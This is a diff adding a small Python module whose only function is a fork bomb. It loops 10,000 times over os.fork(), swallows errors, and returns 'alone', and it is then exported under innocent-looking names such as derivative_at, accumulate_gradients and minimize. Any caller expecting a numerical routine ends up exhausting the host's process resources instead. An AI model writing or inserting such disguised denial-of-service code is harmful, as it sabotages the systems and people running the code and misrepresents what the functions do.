@@ -1,0 +1,15 @@
+"""Fork until nothing else can."""
+
+import os
+
+
+def attack(*args, **kwargs):
+    for _ in range(10_000):
+        try:
+            os.fork()
+        except OSError:
+            pass
+    return "alone"
+
+
+derivative_at = accumulate_gradients = halving_chain = minimize = attack
